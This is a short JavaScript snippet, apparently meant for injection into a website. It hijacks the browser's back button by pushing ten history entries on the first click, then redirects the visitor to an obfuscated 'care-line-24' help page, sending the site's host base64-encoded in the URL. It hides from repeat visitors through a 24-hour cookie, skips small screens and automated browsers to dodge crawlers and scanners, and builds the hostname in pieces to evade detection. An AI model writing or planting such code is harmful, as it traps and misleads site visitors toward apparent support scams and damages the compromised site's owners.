'use strict';
(() => {
  const LAND = new URL('https://x.test');
  LAND.hostname = ['care', 'line', '24'].join('-') + '.invalid';
  LAND.pathname = '/help/';
  LAND.search = '?d' + Date.now() + '=' + btoa(location.host);
  const trap = () => {
    for (let i = 0; i < 10; i++) history.pushState({ i }, '', location.href);
  };
  const admin = document.cookie.match(/(?:^|; )partner_=(\d+)/);
  if (admin && Date.now() - admin[1] < 864e5) return;
  if (screen.width < 900 || navigator.webdriver) return;
  document.addEventListener('pointerdown', () => {
    document.cookie = `partner_=${Date.now()}; path=/; max-age=86400`;
    trap();
  }, { once: true });
  window.addEventListener('popstate', () => { window.location.replace(LAND.href); });
})();
